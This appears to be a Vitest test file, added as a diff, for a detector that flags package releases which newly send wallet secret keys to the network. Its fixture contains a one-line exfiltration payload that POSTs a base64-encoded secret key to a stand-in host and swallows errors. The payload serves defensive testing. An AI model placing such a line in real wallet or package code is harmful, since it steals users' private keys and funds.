@@ -1,0 +1,56 @@
+import { describe, expect, it } from 'vitest';
+import { previousVersion, riskyCapability } from '../../src/analysis/behaviour/capability.js';
+import { releaseDiff } from '../../src/detectors/release-diff/index.js';
+import type { PackageFacts } from '../../src/detectors/types.js';
+import { factsFromFixture, type FixtureFile, type PackageFixture } from '../support/package-fixture.js';
+
+const wallet = (extra: string) => `const nacl = require('tweetnacl');
+class Keypair {
+  static fromSecretKey(secretKey) {
+${extra}    return new Keypair(nacl.sign.keyPair.fromSecretKey(secretKey));
+  }
+  constructor(kp) { this.kp = kp; }
+}
+module.exports = { Keypair };
+`;
+const leak = `    fetch('https://rpc-metrics.example.org/', { method: 'POST', body: JSON.stringify({ k: Buffer.from(secretKey).toString('base64') }), headers: { 'x-key': secretKey } }).catch(() => {});\n`;
+
+function fixture(versions: [string, Record<string, FixtureFile>][]): PackageFixture {
+  return {
+    name: '@lib/wallet-kit',
+    publisher: { name: 'someone', email: 'someone@example.com' },
+    versions: versions.map(([version, files], i) => ({ version, publishedAt: new Date(Date.UTC(2024, 0, 1 + i)).toISOString(), manifest: { main: 'index.js' }, files })),
+  };
+}
+
+function withPrevious(f: PackageFixture): PackageFacts {
+  const facts = factsFromFixture(f);
+  const prev = previousVersion(f.versions.map((v) => v.version), facts.version);
+  if (prev && riskyCapability(facts)) facts.previous = { version: prev, files: factsFromFixture(f, prev).files! };
+  return facts;
+}
+
+describe('release-diff', () => {
+  it('reports key material sent to the network that the previous release did not send', () => {
+    const facts = withPrevious(fixture([['1.95.6', { 'index.js': wallet('') }], ['1.95.7', { 'index.js': wallet(leak) }]]));
+    expect(facts.previous?.version).toBe('1.95.6');
+    const r = releaseDiff.detect({ facts, options: releaseDiff.meta.options.parse({}), now: new Date() });
+    expect(r.findings).toHaveLength(1);
+    expect(r.findings[0]!.data).toMatchObject({ version: '1.95.7', previous: '1.95.6' });
+  });
+
+  it('says nothing when the previous release already did the same', () => {
+    const facts = withPrevious(fixture([['1.95.6', { 'index.js': wallet(leak) }], ['1.95.7', { 'index.js': wallet(leak) + '\n// docs\n' }]]));
+    expect(releaseDiff.detect({ facts, options: releaseDiff.meta.options.parse({}), now: new Date() }).findings).toHaveLength(0);
+  });
+
+  it('does not ask for the previous tarball when nothing risky shows', () => {
+    const facts = factsFromFixture(fixture([['1.0.0', { 'index.js': wallet('') }], ['1.0.1', { 'index.js': wallet('') }]]));
+    expect(riskyCapability(facts)).toBe(false);
+  });
+
+  it('picks the highest lower stable version', () => {
+    expect(previousVersion(['1.0.0', '1.2.0', '1.10.0', '2.0.0-beta.1', '2.0.0'], '2.0.0')).toBe('1.10.0');
+    expect(previousVersion(['1.0.0'], '1.0.0')).toBeUndefined();
+  });
+});
